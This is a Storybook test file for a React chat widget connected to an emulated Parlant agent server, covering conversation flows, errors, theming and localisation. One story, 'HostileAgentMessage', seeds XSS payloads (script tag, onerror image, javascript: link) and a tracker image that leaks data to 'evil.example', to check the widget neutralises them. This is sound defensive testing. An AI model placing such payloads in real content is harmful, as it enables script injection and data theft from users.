import type { Meta, StoryObj } from '@storybook/react-vite';
import { expect, spyOn, waitFor, within } from 'storybook/test';
import { ParlantChatbox, type ChatHeaderProps, type StatusIndicatorProps, type ToolFootnotesProps } from '../src';
import { DEFAULT_AGENT_ID, steps, type ScriptFn } from '../src/testing';
import { disposeParlant, PARLANT_ORIGIN, parlantLoader, parlantOf, type ParlantParameters } from './support/emulator';
import { HostPage } from './support/frames';
import { frenchLabels, hebrewLabels } from './support/locales';
import { AGENT_REPLY, conversation, messagesBy, sendMessage, sessionIdOf } from './support/play';
import { seedHistory, seedTurns } from './support/seed';

/**
 * The whole widget against its own emulated Parlant server (see stories/support/emulator.ts):
 * each story gets a fresh emulator, seeded as it needs, and the widget talks to it over plain
 * `fetch`, intercepted by MSW. Type to the agent: "balance" or "order" calls tools, "explain"
 * sends several messages, "human" hands over to a person, "error" fails the turn, "help" lists
 * the rest.
 */
const meta = {
  title: 'Widget/ParlantChatbox',
  component: ParlantChatbox,
  tags: ['autodocs'],
  loaders: [parlantLoader],
  beforeEach: disposeParlant,
  args: { server: PARLANT_ORIGIN, agentId: DEFAULT_AGENT_ID },
  argTypes: {
    server: { control: false, description: 'Base URL of the Parlant server. In these stories: the story’s own emulator.' },
    sessionId: { control: false },
  },
  render: (args, context) => {
    const { server, sessionId } = parlantOf(context);
    return <ParlantChatbox {...args} server={server} {...(sessionId && { sessionId })} />;
  },
} satisfies Meta<typeof ParlantChatbox>;

export default meta;
type Story = StoryObj<typeof meta>;

/** A conversation with two tool-informed answers, played by the scripted agent before mount. */
const withToolConversation: ParlantParameters = {
  // Fixed times, so the README screenshots taken from these stories only change with the widget.
  startsAt: '2026-06-26T09:41:00Z',
  seed: async (emu) => ({ sessionId: await seedTurns(emu, ['What is my balance?', 'And where is my order?']) }),
};

/** Floating stories cover the page; in docs they get an iframe so they stay in their box. */
const floating = {
  layout: 'fullscreen',
  docs: { story: { inline: false, height: '760px' } },
} as const;

/** Nothing said yet: the agent's name, the empty state, and a composer ready to send. */
export const Empty: Story = {
  play: async ({ canvas }) => {
    await expect(await canvas.findByRole('heading', { name: 'Haxon' })).toBeVisible();
    await expect(canvas.getByText('Ask us anything. We usually answer right away.')).toBeVisible();
    await expect(canvas.getByRole('textbox', { name: 'Message' })).toBeEnabled();
    await expect(canvas.getByRole('button', { name: 'Send' })).toBeDisabled();
    await expect(conversation(canvas).queryAllByRole('listitem')).toHaveLength(0);
  },
};

/** Type, press Enter, and the agent answers; the status line goes back to idle. */
export const Conversation: Story = {
  play: async ({ canvas, canvasElement, userEvent }) => {
    await sendMessage(canvas, userEvent, 'Hello there');
    await expect(conversation(canvas).getByText('Hello there')).toBeVisible();
    await expect(await conversation(canvas).findByText('Hello there', { selector: 'strong' }, AGENT_REPLY)).toBeVisible();
    await waitFor(() => expect(canvasElement.querySelector('.parlant-status')).toHaveAttribute('data-state', 'idle'), AGENT_REPLY);
    await expect(messagesBy(canvas, 'customer')).toHaveLength(1);
    await expect(messagesBy(canvas, 'agent')).toHaveLength(1);
  },
};

/** Resuming an existing session: its history loads, tool footnotes included. */
export const ResumedConversation: Story = {
  parameters: {
    parlant: withToolConversation,
    frame: { width: 440, height: 680, padding: 20, background: '#e9edf2' },
    screenshot: { file: 'widget-light.png', selector: '[data-story-frame]' },
  },
  play: async ({ canvas }) => {
    const log = conversation(canvas);
    await expect(await log.findByText('$5,000.50', {}, AGENT_REPLY)).toBeVisible();
    await expect(log.getByText('A-1042')).toBeVisible();
    await expect(log.getByText('1 tool used')).toBeVisible();
    await expect(log.getByText('2 tools used')).toBeVisible();
    await expect(canvas.getByText('Online')).toBeVisible();
  },
};

/** The agent is working on an answer and reports its stage. */
export const Thinking: Story = {
  parameters: {
    parlant: {
      seed: (emu) => {
        const { id } = emu.createSession();
        emu.appendEvent(id, { source: 'customer', message: 'Can you check why my last invoice was so high?', trace_id: 'trace-invoice' });
        emu.appendEvent(id, { status: 'acknowledged', trace_id: 'trace-invoice' });
        emu.appendEvent(id, { status: 'processing', statusData: { stage: 'Interpreting' }, trace_id: 'trace-invoice' });
        return { sessionId: id };
      },
    },
  },
  play: async ({ canvas }) => {
    const status = canvas.getByRole('status');
    await waitFor(() => expect(status).toHaveTextContent('Thinking (interpreting)…'), AGENT_REPLY);
    await expect(status).toHaveAttribute('data-state', 'thinking');
  },
};

/** The agent is typing its reply. */
export const Typing: Story = {
  parameters: {
    parlant: {
      seed: (emu) => {
        const { id } = emu.createSession();
        emu.appendEvent(id, { source: 'customer', message: 'Do you ship to Canada?', trace_id: 'trace-ship' });
        emu.appendEvent(id, { status: 'processing', trace_id: 'trace-ship' });
        emu.appendEvent(id, { status: 'typing', trace_id: 'trace-ship' });
        return { sessionId: id };
      },
    },
  },
  play: async ({ canvas }) => {
    await waitFor(() => expect(canvas.getByRole('status')).toHaveTextContent('Haxon is typing…'), AGENT_REPLY);
  },
};

/** The agent called a tool before answering; the footnote opens to show arguments and result. */
export const ToolFootnotes: Story = {
  play: async ({ canvas, userEvent }) => {
    await sendMessage(canvas, userEvent, 'What is my balance?');
    const log = conversation(canvas);
    await expect(await log.findByText('$5,000.50', {}, AGENT_REPLY)).toBeVisible();
    const summary = log.getByText('1 tool used');
    await expect(log.getByText('get_balance')).toBeVisible();
    await expect(log.queryByText('Arguments')).not.toBeVisible();
    await userEvent.click(summary);
    const details = within(summary.closest('details') as HTMLElement);
    await expect(details.getByText('Arguments')).toBeVisible();
    await expect(details.getByText('bank:get_balance')).toBeVisible();
    await expect(details.getByText(/"balance": 5000\.5/)).toBeVisible();
  },
};

/**
 * `downloadTranscript="markdown"`: the header's download button saves the conversation, tools
 * included, as a Markdown file made in the page.
 */
export const TranscriptDownload: Story = {
  args: { downloadTranscript: 'markdown' },
  play: async ({ canvas, userEvent }) => {
    await sendMessage(canvas, userEvent, 'What is my balance?');
    await expect(await conversation(canvas).findByText('$5,000.50', {}, AGENT_REPLY)).toBeVisible();
    // Read the file the link points at instead of letting the browser save it.
    const saved: Array<{ name: string; text: Promise<string> }> = [];
    const click = spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(function (this: HTMLAnchorElement) {
      saved.push({ name: this.download, text: fetch(this.href).then((response) => response.text()) });
    });
    try {
      await userEvent.click(canvas.getByRole('button', { name: 'Download the conversation' }));
    } finally {
      click.mockRestore();
    }
    await expect(saved.map((file) => file.name)).toEqual([expect.stringMatching(/^conversation-.*\.md$/)]);
    const text = await saved[0]!.text;
    await expect(text).toContain('What is my balance?');
    await expect(text).toContain('- Tool `bank:get_balance`');
    await expect(text.indexOf('What is my balance?')).toBeLessThan(text.indexOf('$5,000.50'));
  },
};

/** One customer message, three agent messages in the same turn; the name shows once. */
export const SeveralMessagesInOneTurn: Story = {
  play: async ({ canvas, userEvent }) => {
    await sendMessage(canvas, userEvent, 'Can you explain how to change my plan?');
    const log = conversation(canvas);
    await expect(await log.findByText('Anything else I can help with?', {}, AGENT_REPLY)).toBeVisible();
    await expect(log.getByText('Sure, let me walk you through it.')).toBeVisible();
    const replies = messagesBy(canvas, 'agent');
    await expect(replies).toHaveLength(3);
    await expect(within(replies[0] as HTMLElement).getByText('Haxon')).toBeVisible();
    await expect(within(replies[1] as HTMLElement).queryByText('Haxon')).toBeNull();
  },
};

/**
 * A streamed reply (an agent in `stream` output mode): the message appears with its first words
 * and grows in place until complete, while the rest of the list stays as it is.
 */
export const StreamedReply: Story = {
  play: async ({ canvas, userEvent }) => {
    await sendMessage(canvas, userEvent, 'Please stream your answer');
    await waitFor(() => expect(messagesBy(canvas, 'agent')[0]).toHaveAttribute('data-streaming', 'true'), AGENT_REPLY);
    const reply = messagesBy(canvas, 'agent')[0] as HTMLElement;
    const partial = reply.textContent ?? '';
    await waitFor(() => expect(reply).not.toHaveAttribute('data-streaming'), AGENT_REPLY);
    await expect((reply.textContent ?? '').length).toBeGreaterThan(partial.length);
    await expect(messagesBy(canvas, 'agent')).toHaveLength(1);
  },
};

/** Custom events (a card a tool posted) rendered among the messages by a host component. */
export const CustomEvents: Story = {
  args: {
    components: {
      CustomEvent: ({ event }) => (
        <p style={{ margin: '6px 0', padding: '8px 12px', border: '1px dashed currentColor', borderRadius: 8 }}>
          📦 {String((event.data as { card?: string }).card)}
        </p>
      ),
    },
  },
  parameters: {
    parlant: {
      seed: (emu) => {
        const { id } = emu.createSession();
        emu.customerSay(id, 'Where is my order?');
        emu.appendEvent(id, { kind: 'custom', source: 'ai_agent', data: { card: 'Order A-1042 · shipped with DHL' } });
        return { sessionId: id };
      },
    },
  },
  play: async ({ canvas }) => {
    await expect(await conversation(canvas).findByText(/Order A-1042 · shipped with DHL/, {}, AGENT_REPLY)).toBeVisible();
  },
};

/** The agent hands the chat to a person: the moment is marked, the header says who is answering. */
export const HumanHandoff: Story = {
  play: async ({ canvas, canvasElement, userEvent }) => {
    await sendMessage(canvas, userEvent, 'I would like to talk to a human, please');
    const log = conversation(canvas);
    await expect(await log.findByText(/handing you over to a human colleague/, {}, AGENT_REPLY)).toBeVisible();
    await expect(await log.findByText('Dana (support) joined the conversation', {}, AGENT_REPLY)).toBeVisible();
    const [human] = messagesBy(canvas, 'human_agent');
    await expect(within(human as HTMLElement).getByText('Dana (support)')).toBeVisible();
    await expect(within(human as HTMLElement).getByText('Support team')).toBeVisible();
    await expect(canvasElement.querySelector('.parlant-status')).toHaveAttribute('data-state', 'idle');
    await expect(within(canvas.getByRole('banner')).getByText('You’re now chatting with Dana (support)')).toBeVisible();
  },
};

/**
 * The agent's turn failed: the customer is told on their message, without the server's error
 * text, and can try again (here the agent recovers).
 */
export const AgentCouldNotReply: Story = {
  play: async (context) => {
    const { canvas, userEvent } = context;
    await sendMessage(canvas, userEvent, 'My payment page is broken');
    const alert = await canvas.findByRole('alert', {}, AGENT_REPLY);
    await expect(alert).toHaveTextContent('The agent couldn’t reply to this message.');
    await expect(canvas.queryByText(/Traceback|exception/i)).toBeNull();
    parlantOf(context).emu.setScript('echo');
    await userEvent.click(within(alert).getByRole('button', { name: 'Try again' }));
    const log = conversation(canvas);
    await expect(await log.findByText('My payment page is broken', { selector: 'strong' }, AGENT_REPLY)).toBeVisible();
    // The agent answered the same message: it was not posted a second time.
    await expect(messagesBy(canvas, 'customer')).toHaveLength(1);
    await expect(canvas.queryByText('The agent couldn’t reply to this message.')).toBeNull();
  },
};

/**
 * The server fails the send (a 503): the message may have landed, so the widget never posts it
 * again on its own. It stays, marked "Not sent", and Retry (which first looks for it on the
 * server) delivers it once.
 */
export const SendFailedThenRetried: Story = {
  parameters: {
    parlant: { seed: (emu) => void emu.faults.fail('POST /sessions/:session_id/events', { status: 503, count: 1 }) },
  },
  play: async (context) => {
    const { canvas, userEvent } = context;
    await sendMessage(canvas, userEvent, 'Please send me a copy of my invoice');
    await expect(conversation(canvas).getByText('Please send me a copy of my invoice')).toBeVisible();
    const failed = await canvas.findByText('Not sent', {}, AGENT_REPLY);
    const row = within(failed.closest('p') as HTMLElement);
    await expect(row.getByRole('button', { name: 'Delete' })).toBeVisible();
    await userEvent.click(row.getByRole('button', { name: 'Retry' }));
    await waitFor(() => expect(canvas.queryByText('Not sent')).toBeNull(), AGENT_REPLY);
    const log = conversation(canvas);
    await expect(await log.findByText('Please send me a copy of my invoice', { selector: 'strong' }, AGENT_REPLY)).toBeVisible();
    await expect(log.getAllByText('Please send me a copy of my invoice', { selector: 'p' })).toHaveLength(1);
    // The server, too, got the message exactly once.
    const { emu } = parlantOf(context);
    await expect(emu.events(sessionIdOf(emu)).filter((e) => e.source === 'customer')).toHaveLength(1);
  },
};

/**
 * The server goes down mid-conversation: the header says so at once, and after a 5 s grace
 * period a banner tells the customer the widget keeps trying. The history stays.
 */
export const ServerDown: Story = {
  parameters: {
    parlant: {
      seed: async (emu) => ({ sessionId: await seedTurns(emu, ['Hello!']) }),
      // Closing the emulator answers every request with 503 from now on.
      live: (emu) => emu.close(),
    },
  },
  play: async ({ canvas }) => {
    await expect(await canvas.findByText('Reconnecting…', {}, AGENT_REPLY)).toBeVisible();
    const banner = await canvas.findByRole('alert', {}, { timeout: 12_000 });
    await expect(banner).toHaveTextContent('Connection lost. Reconnecting…');
    await expect(messagesBy(canvas, 'customer')).toHaveLength(1);
    await expect(messagesBy(canvas, 'agent')).toHaveLength(1);
  },
};

/** The session was deleted on the server: a clear state and a way to start over. */
export const ConversationEnded: Story = {
  parameters: {
    parlant: {
      seed: async (emu) => ({ sessionId: await seedTurns(emu, ['Hello!']) }),
      live: (emu, sessionId) => void emu.deleteSession(sessionId),
    },
  },
  play: async ({ canvas, userEvent }) => {
    const banner = await canvas.findByRole('alert', {}, AGENT_REPLY);
    await expect(banner).toHaveTextContent('This conversation has ended.');
    await expect(canvas.getByRole('textbox', { name: 'Message' })).toBeDisabled();
    await expect(canvas.getByText('The chat is unavailable.')).toBeVisible();
    await userEvent.click(canvas.getByRole('button', { name: 'Start a new conversation' }));
    await waitFor(() => expect(canvas.getByRole('textbox', { name: 'Message' })).toBeEnabled());
    await expect(canvas.queryByRole('alert')).toBeNull();
    await expect(canvas.getByText('Ask us anything. We usually answer right away.')).toBeVisible();
  },
};

/** 300 messages of history load at once, scrolled to the latest. */
export const LongHistory: Story = {
  parameters: {
    parlant: {
      seed: (emu) => {
        const { id } = emu.createSession();
        seedHistory(emu, id, 300);
        return { sessionId: id };
      },
    },
  },
  play: async ({ canvas, canvasElement }) => {
    const log = conversation(canvas);
    // Only the latest messages are in the DOM; the rest are a button away.
    await waitFor(() => expect(log.getAllByRole('listitem')).toHaveLength(30), AGENT_REPLY);
    await expect(log.getByText(/\(#300\)$/)).toBeVisible();
    await expect(canvas.getByRole('button', { name: 'Show earlier messages (270 more)' })).toBeInTheDocument();
    const scroller = canvasElement.querySelector('.parlant-scroller') as HTMLElement;
    await waitFor(() => expect(scroller.scrollHeight - scroller.scrollTop - scroller.clientHeight).toBeLessThan(48));
  },
};

/** With `createSession="start"` and `greet`, the agent speaks first (here an agent told to greet). */
export const Greeting: Story = {
  args: { createSession: 'start', greet: true },
  parameters: { parlant: { options: { agents: [{ id: DEFAULT_AGENT_ID, name: 'Haxon', greeting: "Hi! I'm Haxon. How can I help you today?" }] } } },
  play: async ({ canvas }) => {
    await expect(await conversation(canvas).findByText("Hi! I'm Haxon. How can I help you today?", {}, AGENT_REPLY)).toBeVisible();
  },
};

/** An agent message full of markup and script URLs renders as harmless text and safe links. */
export const HostileAgentMessage: Story = {
  parameters: {
    parlant: {
      seed: (emu) => {
        const { id } = emu.createSession();
        emu.appendEvent(id, { source: 'customer', message: 'Show me something nasty' });
        emu.agentSay(
          id,
          [
            'Here you go: <script>window.__pwned = 1</script> <img src=x onerror="window.__pwned=1">',
            '',
            '[click me](javascript:window.__pwned=1) and [a real link](https://docs.example.com/help)',
            '',
            '![tracker](https://evil.example/leak?q=secret)',
          ].join('\n'),
        );
        return { sessionId: id };
      },
    },
  },
  play: async ({ canvas }) => {
    const log = canvas.getByRole('log', { name: 'Conversation' });
    await waitFor(() => expect(log).toHaveTextContent('<script>window.__pwned = 1</script>'), AGENT_REPLY);
    // Nothing a message says becomes an element of its own (the widget's own icons are outside the bubbles).
    await expect(log.querySelector(':is(.parlant-bubble) :is(script, img, iframe, svg)')).toBeNull();
    for (const link of within(log).getAllByRole('link')) await expect(link.getAttribute('href')).toMatch(/^https:/);
    await expect(within(log).getByRole('link', { name: 'tracker (Image from evil.example)' })).toBeVisible();
    await expect((window as { __pwned?: number }).__pwned).toBeUndefined();
  },
};

/** The floating launcher, closed, counting agent messages that arrived meanwhile. */
export const FloatingClosedWithUnread: Story = {
  args: { variant: 'floating' },
  parameters: {
    ...floating,
    parlant: {
      seed: async (emu) => ({ sessionId: await seedTurns(emu, ['Hello!']) }),
      live: async (emu, sessionId) => {
        // Arrive after the history: these are news, the history is not.
        await new Promise((resolve) => setTimeout(resolve, 300));
        emu.agentSay(sessionId, 'Are you still there?');
        emu.agentSay(sessionId, 'Your order **A-1042** has shipped.');
      },
    },
  },
  render: (args, context) => <HostPage>{meta.render(args, context)}</HostPage>,
  play: async ({ canvas }) => {
    const launcher = await canvas.findByRole('button', { name: 'Chat, 2 unread messages' }, AGENT_REPLY);
    await expect(launcher).toHaveAttribute('aria-expanded', 'false');
    await expect(within(launcher).getByText('2')).toBeVisible();
    await expect(canvas.queryByRole('textbox', { name: 'Message' })).toBeNull();
  },
};

/** The floating panel, open over the page, in the middle of a conversation. */
export const FloatingOpen: Story = {
  args: { variant: 'floating', defaultOpen: true },
  parameters: {
    ...floating,
    parlant: withToolConversation,
    screenshot: { file: 'widget-floating.png', selector: '[data-host-page]', viewport: { width: 960, height: 780 } },
  },
  render: (args, context) => <HostPage>{meta.render(args, context)}</HostPage>,
  play: async ({ canvas }) => {
    await expect(await canvas.findByRole('region', { name: 'Haxon' }, AGENT_REPLY)).toBeVisible();
    await expect(canvas.getByRole('button', { name: 'Close chat' })).toBeVisible();
    await expect(canvas.getByRole('button', { name: 'Chat' })).toHaveAttribute('aria-expanded', 'true');
    await expect(await conversation(canvas).findByText('A-1042', {}, AGENT_REPLY)).toBeVisible();
  },
};

/**
 * Keyboard use of the floating widget: opening puts focus in the message box, Escape closes and
 * returns focus to the launcher, Enter opens it again.
 */
export const FloatingKeyboard: Story = {
  args: { variant: 'floating' },
  parameters: floating,
  render: (args, context) => <HostPage>{meta.render(args, context)}</HostPage>,
  play: async ({ canvas, userEvent }) => {
    const launcher = canvas.getByRole('button', { name: 'Chat' });
    await userEvent.click(launcher);
    await expect(launcher).toHaveAttribute('aria-expanded', 'true');
    await expect(canvas.getByRole('textbox', { name: 'Message' })).toHaveFocus();
    await sendMessage(canvas, userEvent, 'Hi!');
    await expect(await conversation(canvas).findByText('Hi!', { selector: 'strong' }, AGENT_REPLY)).toBeVisible();
    await userEvent.keyboard('{Escape}');
    await expect(launcher).toHaveAttribute('aria-expanded', 'false');
    await expect(launcher).toHaveFocus();
    await expect(canvas.queryByRole('textbox', { name: 'Message' })).toBeNull();
    await userEvent.keyboard('{Enter}');
    await expect(canvas.getByRole('textbox', { name: 'Message' })).toHaveFocus();
  },
};

/** Dark color scheme (`colorScheme="auto"` follows the system setting). */
export const Dark: Story = {
  args: { colorScheme: 'dark' },
  parameters: {
    parlant: withToolConversation,
    frame: { width: 440, height: 680, padding: 20, background: '#0b0d10' },
    screenshot: { file: 'widget-dark.png', selector: '[data-story-frame]' },
  },
  globals: { backgrounds: { value: 'dark' } },
  play: async ({ canvas, canvasElement }) => {
    await expect(await conversation(canvas).findByText('$5,000.50', {}, AGENT_REPLY)).toBeVisible();
    await expect(canvasElement.querySelector('.parlant-chatbox')).toHaveAttribute('data-color-scheme', 'dark');
  },
};

/** The `theme` prop sets `--parlant-*` tokens: here a teal brand, square corners and a serif face. */
export const CustomTheme: Story = {
  args: {
    theme: {
      accent: '#0f766e',
      accentText: '#ffffff',
      surface: '#effaf8',
      border: '#b5e4dc',
      focusRing: '#0f766e',
      radius: '6px',
      bubbleRadius: '6px',
      fontFamily: 'Georgia, "Times New Roman", serif',
      fontSize: '16px',
    },
  },
  play: async ({ canvas, canvasElement, userEvent }) => {
    const root = canvasElement.querySelector('.parlant-chatbox') as HTMLElement;
    await expect(root.style.getPropertyValue('--parlant-accent')).toBe('#0f766e');
    await sendMessage(canvas, userEvent, 'Hello there');
    const [mine] = messagesBy(canvas, 'customer');
    const bubble = (mine as HTMLElement).querySelector('.parlant-bubble') as HTMLElement;
    await expect(getComputedStyle(bubble).backgroundColor).toBe('rgb(15, 118, 110)');
    await expect(getComputedStyle(bubble).borderRadius).toBe('6px');
    await expect(await conversation(canvas).findByText('Hello there', { selector: 'strong' }, AGENT_REPLY)).toBeVisible();
  },
};

function BrandHeader({ title, connection, subtitle: _subtitle, onClose: _onClose, ...rest }: ChatHeaderProps) {
  return (
    <header {...rest} className="parlant-header" style={{ background: '#1e1b4b', color: '#ffffff' }}>
      <div className="parlant-header-text">
        <h2 className="parlant-title">{title} · Acme help</h2>
        <p style={{ margin: 0, fontSize: '0.8em', color: '#e0e7ff' }}>{connection === 'live' ? 'Typically replies in minutes' : 'Connecting…'}</p>
      </div>
    </header>
  );
}

function PlainStatus({ activity, agentName, ...rest }: StatusIndicatorProps) {
  return (
    <div {...rest} role="status" className="parlant-status" data-state={activity.state}>
      {activity.state === 'idle' ? '' : `${agentName}: ${activity.state}${activity.stage ? ` (${activity.stage})` : ''}`}
    </div>
  );
}

function SourceChips({ footnotes }: ToolFootnotesProps) {
  return (
    <ul aria-label="Sources" style={{ display: 'flex', gap: 6, margin: '4px 6px 0', padding: 0, listStyle: 'none', fontSize: 12 }}>
      {footnotes.map((footnote) => (
        <li key={footnote.key} style={{ padding: '2px 8px', borderRadius: 999, background: '#e0e7ff', color: '#1e1b4b' }}>
          {footnote.name}
        </li>
      ))}
    </ul>
  );
}

/** `components` replaces parts: a branded header, a plain status line, tool calls as chips. */
export const CustomComponents: Story = {
  args: { components: { Header: BrandHeader, StatusIndicator: PlainStatus, ToolFootnotes: SourceChips } },
  play: async ({ canvas, canvasElement, userEvent }) => {
    await expect(await canvas.findByRole('heading', { name: 'Haxon · Acme help' })).toBeVisible();
    await sendMessage(canvas, userEvent, 'What is my balance?');
    const sources = await canvas.findByRole('list', { name: 'Sources' }, AGENT_REPLY);
    await expect(within(sources).getByText('get_balance')).toBeVisible();
    await expect(canvas.queryByText('1 tool used')).toBeNull();
    await waitFor(() => expect(canvasElement.querySelector('.parlant-status')).toHaveAttribute('data-state', 'idle'), AGENT_REPLY);
  },
};

const hebrewAgent: ScriptFn = (turn) =>
  turn.reason === 'greeting' ? [steps.say('שלום! איך אפשר לעזור?')] : [steps.say(`קיבלתי: **${turn.text}**. נחזור אליך עם תשובה בהקדם.`)];

/** Right to left: Hebrew labels, `dir="rtl"`, and a Hebrew-speaking agent. */
export const RightToLeft: Story = {
  args: { dir: 'rtl', labels: hebrewLabels, locale: 'he-IL', title: 'תמיכה' },
  parameters: {
    parlant: {
      options: { agents: [{ id: DEFAULT_AGENT_ID, name: 'נועה', script: hebrewAgent }] },
      seed: async (emu) => ({ sessionId: await seedTurns(emu, ['שלום, מתי החבילה שלי תגיע?']) }),
    },
  },
  play: async ({ canvas, canvasElement, userEvent }) => {
    await expect(canvasElement.querySelector('.parlant-chatbox')).toHaveAttribute('dir', 'rtl');
    await expect(canvas.getByRole('heading', { name: 'תמיכה' })).toBeVisible();
    const log = conversation(canvas, 'שיחה');
    await expect(await log.findByText('שלום, מתי החבילה שלי תגיע?', { selector: 'strong' }, AGENT_REPLY)).toBeVisible();
    await sendMessage(canvas, userEvent, 'תודה רבה', 'הודעה');
    await expect(await log.findByText('תודה רבה', { selector: 'strong' }, AGENT_REPLY)).toBeVisible();
    await expect(canvas.getByRole('button', { name: 'שליחה' })).toBeInTheDocument();
    await expect(log.getAllByText('את/ה')).toHaveLength(2);
  },
};

const frenchAgent: ScriptFn = (turn) =>
  /solde/i.test(turn.text)
    ? [steps.tool('banque:consulter_solde', { compte: 'principal' }, { solde: 5000.5, devise: 'EUR' }), steps.say('Votre solde est de **5 000,50 €**.')]
    : [steps.say(`Vous avez écrit : **${turn.text}**`)];

/** Every text comes from `labels`: here all of them in French, with a French-speaking agent. */
export const FrenchLabels: Story = {
  args: { labels: frenchLabels, locale: 'fr-FR', title: 'Assistance' },
  parameters: { parlant: { options: { agents: [{ id: DEFAULT_AGENT_ID, name: 'Camille', script: frenchAgent }] } } },
  play: async ({ canvas, userEvent }) => {
    await expect(canvas.getByText('Posez-nous vos questions, nous répondons tout de suite.')).toBeVisible();
    await expect(canvas.getByPlaceholderText('Écrivez un message…')).toBeVisible();
    await expect(canvas.getByRole('button', { name: 'Envoyer' })).toBeDisabled();
    await sendMessage(canvas, userEvent, 'Quel est mon solde ?');
    const log = conversation(canvas);
    await expect(await log.findByText('5 000,50 €', {}, AGENT_REPLY)).toBeVisible();
    await expect(log.getByText('1 outil utilisé')).toBeVisible();
    await expect(log.getByText('Vous')).toBeVisible();
    await expect(await canvas.findByText('En ligne')).toBeVisible();
  },
};
